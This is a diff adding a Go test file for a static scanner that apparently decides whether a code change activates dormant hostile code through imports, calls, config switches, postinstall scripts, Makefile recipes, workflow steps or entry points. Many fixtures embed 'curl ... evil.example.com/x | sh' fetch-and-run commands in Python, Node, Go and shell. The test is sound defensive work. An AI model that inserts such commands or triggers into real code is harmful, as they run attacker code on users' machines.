@@ -1,0 +1,408 @@
+package static_test
+
+import (
+	"testing"
+	"testing/fstest"
+
+	"github.com/aigate/gate/gate"
+	"github.com/aigate/gate/gate/change"
+	"github.com/aigate/gate/gate/source/versions"
+	"github.com/aigate/gate/gate/static"
+)
+
+// scanEdit scans one file of a tree that a change edits or adds, as whoever compares the
+// two versions line by line would.
+func scanEdit(t *testing.T, base, edit fstest.MapFS) outcome {
+	t.Helper()
+	head := fstest.MapFS{}
+	for name, f := range base {
+		head[name] = f
+	}
+	for name, f := range edit {
+		head[name] = f
+	}
+	rules, err := ownRules()
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := static.New(static.Options{Policy: gate.DefaultPolicy(), Rules: rules, Classify: change.Classify})
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &gate.Change{Head: head, Base: base}
+	for name := range head {
+		c.Files = append(c.Files, name)
+	}
+	for name, f := range edit {
+		target := &gate.Target{Path: name, Kind: gate.ChangeAdded, Mode: f.Mode, Size: int64(len(f.Data))}
+		target.Language, target.Role = change.Classify(name, f.Mode, f.Data)
+		if old, ok := base[name]; ok {
+			target.Kind = gate.ChangeModified
+			lines := versions.Align(versions.Text{Language: target.Language, Path: name, Content: old.Data}, versions.Text{Language: target.Language, Path: name, Content: f.Data})
+			var changed []gate.LineRange
+			for n := 1; n <= 1+len(f.Data); n++ {
+				if _, same := lines.Before(n); !same {
+					changed = append(changed, gate.LineRange{n, n})
+				}
+			}
+			target.Lines = gate.OnlyLines(changed...)
+		}
+		c.Targets = append(c.Targets, target)
+	}
+	found := gate.NewFindings(c.Targets, nil)
+	if _, err := s.Run(t.Context(), c, found); err != nil {
+		t.Fatal(err)
+	}
+	o := outcome{found: map[string][]gate.Finding{}}
+	for name := range edit {
+		o.found[name] = found.Of(name)
+	}
+	return o
+}
+
+func TestWhatAChangePutsToUseCountsAsItsOwn(t *testing.T) {
+	for name, tc := range map[string]struct {
+		base, edit fstest.MapFS
+		reaches    bool
+	}{
+		"a call of an old function": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`), "b.py": file(`import a
+
+print(a.used())
+`)},
+			fstest.MapFS{"b.py": file(`import a
+
+print(a.used())
+a.unused()
+`)},
+			true,
+		},
+		"an import of an old function": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`), "b.py": file(`print(1)
+`)},
+			fstest.MapFS{"b.py": file(`from a import unused
+
+unused()
+`)},
+			true,
+		},
+		"a new file calls an old function": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`)},
+			fstest.MapFS{"c.py": file(`import a
+
+a.unused()
+`)},
+			true,
+		},
+		"a new file calls another function": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`)},
+			fstest.MapFS{"c.py": file(`import a
+
+print(a.used())
+`)},
+			false,
+		},
+		"a switch in a module": {
+			fstest.MapFS{"a.py": file(`import os
+from conf import ENABLED
+
+if ENABLED:
+    os.system("curl -s http://evil.example.com/x | sh")
+`), "conf.py": file(`ENABLED = False
+NAME = 1
+`)},
+			fstest.MapFS{"conf.py": file(`ENABLED = True
+NAME = 1
+`)},
+			true,
+		},
+		"another setting of the module": {
+			fstest.MapFS{"a.py": file(`import os
+from conf import ENABLED
+
+if ENABLED:
+    os.system("curl -s http://evil.example.com/x | sh")
+`), "conf.py": file(`ENABLED = False
+NAME = 1
+`)},
+			fstest.MapFS{"conf.py": file(`ENABLED = False
+NAME = 2
+`)},
+			false,
+		},
+		"a switch in data": {
+			fstest.MapFS{"a.py": file(`import os, json
+c = json.load(open("conf.json"))
+if c["telemetry"]:
+    os.system("curl -s http://evil.example.com/x | sh")
+`), "conf.json": file(`{"telemetry": false}
+`)},
+			fstest.MapFS{"conf.json": file(`{"telemetry": true}
+`)},
+			true,
+		},
+		"a switch in a file of variables": {
+			fstest.MapFS{"a.sh": file(`#!/bin/sh
+if [ "$RUN_SETUP" = 1 ]; then
+  curl -s http://evil.example.com/x | sh
+fi
+`), ".env": file(`RUN_SETUP=0
+`)},
+			fstest.MapFS{".env": file(`RUN_SETUP=1
+`)},
+			true,
+		},
+		"a variable in front of a command": {
+			fstest.MapFS{"a.sh": file(`#!/bin/sh
+if [ "$RUN_SETUP" = 1 ]; then
+  curl -s http://evil.example.com/x | sh
+fi
+`), "Makefile": file(`all:
+	./a.sh
+`)},
+			fstest.MapFS{"Makefile": file(`all:
+	RUN_SETUP=1 ./a.sh
+`)},
+			true,
+		},
+		"an import": {
+			fstest.MapFS{"a.py": file(`import os
+os.system("curl -s http://evil.example.com/x | sh")
+`), "b.py": file(`print(1)
+`)},
+			fstest.MapFS{"b.py": file(`import a
+
+print(1)
+`)},
+			true,
+		},
+		"an import from the folder itself": {
+			fstest.MapFS{"p/__init__.py": file(``), "p/setup_env.py": file(`import os
+os.system("curl -s http://evil.example.com/x | sh")
+`)},
+			fstest.MapFS{"p/__init__.py": file(`from . import setup_env
+`)},
+			true,
+		},
+		"a module of Node": {
+			fstest.MapFS{"lib/a.js": file(`require("child_process").execSync("curl -s http://evil.example.com/x | sh")
+`), "b.js": file(`console.log(1)
+`)},
+			fstest.MapFS{"b.js": file(`require("./lib/a")
+console.log(1)
+`)},
+			true,
+		},
+		"an entry point": {
+			fstest.MapFS{"tools/a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`), "tools/__init__.py": file(``), "pyproject.toml": file(`[project]
+name = "x"
+version = "1"
+`)},
+			fstest.MapFS{"pyproject.toml": file(`[project]
+name = "x"
+version = "1"
+
+[project.scripts]
+x = "tools.a:unused"
+`)},
+			true,
+		},
+		"a script of a package": {
+			fstest.MapFS{"tools/a.js": file(`require("child_process").execSync("curl -s http://evil.example.com/x | sh")
+`), "package.json": file(`{"name": "x", "version": "1.0.0"}
+`)},
+			fstest.MapFS{"package.json": file(`{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node tools/a.js"}}
+`)},
+			true,
+		},
+		"a recipe": {
+			fstest.MapFS{"tools/a.sh": file(`#!/bin/sh
+curl -s http://evil.example.com/x | sh
+`), "Makefile": file(`all:
+	true
+`)},
+			fstest.MapFS{"Makefile": file(`all:
+	sh tools/a.sh
+`)},
+			true,
+		},
+		"a mention": {
+			fstest.MapFS{"tools/a.sh": file(`#!/bin/sh
+curl -s http://evil.example.com/x | sh
+`), "b.txt": file(`x
+`)},
+			fstest.MapFS{"b.txt": file(`x
+see tools/a.sh for how
+`)},
+			false,
+		},
+		"a step of a workflow": {
+			fstest.MapFS{"tools/a.sh": file(`#!/bin/sh
+curl -s http://evil.example.com/x | sh
+`)},
+			fstest.MapFS{".github/workflows/a.yml": file(`on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: ./tools/a.sh
+`)},
+			true,
+		},
+		"a call within a package": {
+			fstest.MapFS{"go.mod": file(`module x
+
+go 1.22
+`), "a.go": file(`package main
+
+import "os/exec"
+
+func unused() {
+	exec.Command("sh", "-c", "curl -s http://evil.example.com/x | sh").Run()
+}
+`), "main.go": file(`package main
+
+func main() {
+}
+`)},
+			fstest.MapFS{"main.go": file(`package main
+
+func main() {
+	unused()
+}
+`)},
+			true,
+		},
+		"a call of an export": {
+			fstest.MapFS{"a.js": file(`const cp = require("child_process");
+function unused() {
+  cp.execSync("curl -s http://evil.example.com/x | sh");
+}
+module.exports = { unused };
+`), "b.js": file(`const a = require("./a");
+`)},
+			fstest.MapFS{"b.js": file(`const a = require("./a");
+a.unused();
+`)},
+			true,
+		},
+		"a function of a sourced script": {
+			fstest.MapFS{"lib.sh": file(`unused() {
+  curl -s http://evil.example.com/x | sh
+}
+`), "b.sh": file(`#!/bin/sh
+. ./lib.sh
+`)},
+			fstest.MapFS{"b.sh": file(`#!/bin/sh
+. ./lib.sh
+unused
+`)},
+			true,
+		},
+		"a change that has nothing to do with it": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`), "b.py": file(`print(1)
+`)},
+			fstest.MapFS{"b.py": file(`print(2)
+name = "x"
+`)},
+			false,
+		},
+		"a text that speaks of it": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`), "b.md": file(`hi
+`)},
+			fstest.MapFS{"b.md": file(`hi, call unused()
+`)},
+			false,
+		},
+		"a comment that speaks of it": {
+			fstest.MapFS{"a.py": file(`import os
+
+
+def unused():
+    os.system("curl -s http://evil.example.com/x | sh")
+
+
+def used():
+    return 1
+`), "b.py": file(`print(1)
+`)},
+			fstest.MapFS{"b.py": file(`print(1)
+# unused() is in a.py
+`)},
+			false,
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			got := scanEdit(t, tc.base, tc.edit)
+			for where := range tc.edit {
+				if got.dangerous(where) != tc.reaches {
+					t.Errorf("%s: dangerous: %t, want %t: %v", where, !tc.reaches, tc.reaches, got.rulesOf(where))
+				}
+			}
+		})
+	}
+}
